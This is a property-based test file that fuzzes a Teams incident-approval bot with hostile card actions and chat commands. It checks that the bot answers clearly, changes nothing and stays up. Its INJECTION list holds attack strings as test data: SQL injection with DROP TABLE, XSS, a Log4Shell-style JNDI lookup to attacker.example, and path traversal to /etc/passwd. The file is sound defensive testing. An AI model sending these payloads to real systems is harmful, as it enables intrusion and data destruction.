import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { VERBS } from "../../src/cards/incident-card.js";
import { DEMO_PEOPLE, type DemoPerson, type DemoWorld, startDemoWorld } from "../../src/demo/world.js";
import { QUEUE } from "../../src/jobs/queues.js";
import { countEvents } from "../../src/store/events-repo.js";
import { auditTrail, listIncidents } from "../../src/store/incidents-repo.js";
import { quietLogger } from "../helpers/logs.js";
import { until } from "../helpers/pipeline.js";

/**
 * Hostile input to the bot, through /api/messages with valid Bot Framework authentication (the attacker
 * is inside Teams): card-action invokes with malformed, oversized, wrongly typed, tampered and replayed
 * payloads, and chat commands of any text. The bot must answer every one clearly (a card or a 400 that
 * says what is wrong, never a 500), change nothing in the tenant, decide nothing, and stay up.
 */

const [ANALYST, OUTSIDER] = DEMO_PEOPLE as [DemoPerson, DemoPerson];
const quiet = quietLogger();

const INJECTION = [
  "' OR 1=1 --",
  "'; DROP TABLE incidents; --",
  "<script>alert(1)</script>",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-style lookup, sent as plain text on purpose
  "${jndi:ldap://attacker.example/a}",
  "../../../../etc/passwd",
  "inc-\u0000",
  "\u202Eevil\u202C",
  "ｉｎｃ－ｆｕｌｌｗｉｄｔｈ",
  "a".repeat(20_000),
  "__proto__",
  "constructor",
  "{{7*7}}",
  "<at>Warden</at> approve",
];

let world: DemoWorld;
let ids: string[];

/** Everything a decision or an action would change: writes to the tenant, incident states and versions. */
async function snapshot() {
  const incidents = await listIncidents(world.warden.db, world.day.tenant.id);
  const trails = await Promise.all(incidents.map((i) => auditTrail(world.warden.db, i.id)));
  return {
    tenantWrites: world.sim.directory.changes.length,
    incidents: incidents.map((i) => `${i.id}:${i.state}:${i.version}`).sort(),
    decisions: trails.flat().filter((e) => !["refused"].includes(e.action)).length,
  };
}

beforeAll(async () => {
  world = await startDemoWorld({ playSeconds: 5, auto: false, log: quiet, env: {} });
  const { db, queue } = world.warden;
  const idle = async (name: string) => {
    const c = await queue.counts(name);
    return c.waiting + c.active + c.delayed === 0;
  };
  await until(
    async () => {
      const incidents = await listIncidents(db, world.day.tenant.id);
      return (
        Date.now() > world.startAt + 15_000 &&
        incidents.length >= world.expectedIncidents &&
        incidents.every((i) => i.state === "pending" || i.state === "merged") &&
        // The hijacked subscription's departure, which Warden observes after the move completes, grows
        // its incident: the snapshot below is taken once that is detected and triaged.
        (await countEvents(db, world.day.tenant.id, "observations")) > 0 &&
        (await idle(QUEUE.detect)) &&
        (await idle(QUEUE.triage))
      );
    },
    120_000,
    "the demo's incidents waiting for approval",
  );
  ids = (await listIncidents(world.warden.db, world.day.tenant.id)).map((i) => i.id);
}, 150_000);

afterAll(async () => {
  await world?.close();
});

const hostileString = fc.oneof(
  fc.string(),
  fc.string({ unit: "binary", maxLength: 200 }),
  fc.constantFrom(...INJECTION),
);
const hostileIncidentId = () =>
  fc.oneof(
    fc.constantFrom(...ids),
    fc.constantFrom(...ids).map((id) => id.toUpperCase()),
    fc.constantFrom(...ids).map((id) => `${id}\u200b`),
    fc.constantFrom(...ids).map((id) => ` ${id}`),
    hostileString,
    fc.jsonValue(),
  );
// Never a version an incident holds now (all are small integers): those would be a real decision.
const staleOrBrokenVersion = fc.oneof(
  fc.integer({ min: -1_000_000, max: -1 }),
  fc.integer({ min: 1_000, max: Number.MAX_SAFE_INTEGER }),
  fc.double().filter((d) => !Number.isInteger(d)),
  fc.constantFrom("1", "2", "0x1", "", null, true, [], {}),
  fc.jsonValue(),
);
const verb = fc.oneof(
  fc.constantFrom(...VERBS, "inventoryPage", "APPROVE", "approve ", "__proto__", "constructor"),
  hostileString,
);

function invokeValue() {
  const data = fc.record(
    {
      incidentId: hostileIncidentId(),
      version: staleOrBrokenVersion,
      reason: hostileString,
      actions: fc.oneof(hostileString, fc.array(hostileString)),
      page: fc.jsonValue(),
    },
    { requiredKeys: [] },
  );
  return fc.oneof(
    {
      weight: 4,
      arbitrary: fc.record({ action: fc.record({ type: fc.constant("Action.Execute"), verb, data }) }),
    },
    fc.record({
      action: fc.record({
        type: fc.oneof(fc.constantFrom("Action.Submit", "Action.OpenUrl"), fc.jsonValue()),
        verb,
        data,
      }),
    }),
    fc.record({ action: fc.jsonValue() }),
    fc.jsonValue(),
  );
}

/** A clear answer: a card (Warden's notice, a refusal, or the incident as it stands) or a 4xx that says why. */
function expectClearAnswer(answer: { status: number; body: unknown }): void {
  expect(answer.status, JSON.stringify(answer.body)).not.toBeGreaterThanOrEqual(500);
  if (answer.status === 200) {
    const body = answer.body as { type?: string; value?: { type?: string } };
    expect(body.type).toBe("application/vnd.microsoft.card.adaptive");
    expect(body.value?.type).toBe("AdaptiveCard");
  } else {
    expect([400, 404, 501]).toContain(answer.status);
  }
}

describe("hostile input to the bot", () => {
  it("an approver's malformed, tampered or stale card actions: a clear answer, nothing decided, nothing written", async () => {
    const before = await snapshot();
    const statuses = new Map<number, number>();
    await fc.assert(
      fc.asyncProperty(invokeValue(), async (value) => {
        const answer = await world.send(ANALYST, { type: "invoke", name: "adaptiveCard/action", value });
        expectClearAnswer(answer);
        statuses.set(answer.status, (statuses.get(answer.status) ?? 0) + 1);
      }),
      { numRuns: 250, seed: 7 },
    );
    expect(await snapshot()).toEqual(before);
    // Both kinds of answer were reached: refusals on cards, and 400s for what is not a card action at all.
    expect(statuses.get(200) ?? 0).toBeGreaterThan(50);
    expect(statuses.get(400) ?? 0).toBeGreaterThan(10);
  }, 180_000);

  it("a non-approver's clicks, even well-formed and current ones, are refused", async () => {
    const before = await snapshot();
    const current = await listIncidents(world.warden.db, world.day.tenant.id);
    const wellFormed = fc.record({
      action: fc.record({
        type: fc.constant("Action.Execute"),
        verb: fc.constantFrom(...VERBS),
        data: fc
          .constantFrom(...current)
          .map((i) => ({ incidentId: i.id, version: i.version, reason: "looks fine" })),
      }),
    });
    await fc.assert(
      fc.asyncProperty(fc.oneof(wellFormed, invokeValue()), async (value) => {
        const answer = await world.send(OUTSIDER, { type: "invoke", name: "adaptiveCard/action", value });
        expectClearAnswer(answer);
        // Neither the inventory nor an incident's trail is shown to someone who may not decide.
        const shown = JSON.stringify(answer.body);
        expect(shown).not.toContain("External accounts holding admin roles");
        expect(shown).not.toContain("Audit trail of");
      }),
      { numRuns: 150, seed: 11 },
    );
    expect(await snapshot()).toEqual(before);
  }, 180_000);

  it("chat commands of any text get an answer, and change nothing", async () => {
    const before = await snapshot();
    const command = fc.oneof(
      hostileString,
      fc
        .tuple(
          fc.constantFrom("open", "incident", "history", "inventory", "help", "INCIDENT", "approve"),
          hostileString,
        )
        .map(([c, arg]) => `${c} ${arg}`),
      fc.constantFrom(...ids).map((id) => `incident ${id}' OR '1'='1`),
    );
    let runs = 0;
    await fc.assert(
      fc.asyncProperty(command, fc.constantFrom(ANALYST, OUTSIDER), async (text, person) => {
        runs += 1;
        const chat = { id: `a:hostile-${person.id}`, conversationType: "personal" as const };
        const sentBefore = world.connector.sent.length;
        const answer = await world.send(person, { type: "message", text }, chat);
        expect(answer.status).toBe(200);
        const replies = world.connector.sent.slice(sentBefore).filter((s) => s.conversationId === chat.id);
        expect(replies.length, `no answer to ${JSON.stringify(text.slice(0, 80))}`).toBeGreaterThanOrEqual(1);
      }),
      { numRuns: 150, seed: 13 },
    );
    expect(runs).toBe(150);
    expect(await snapshot()).toEqual(before);
    expect((await fetch(`${world.wardenUrl}/healthz`)).status).toBe(200);
  }, 180_000);
});
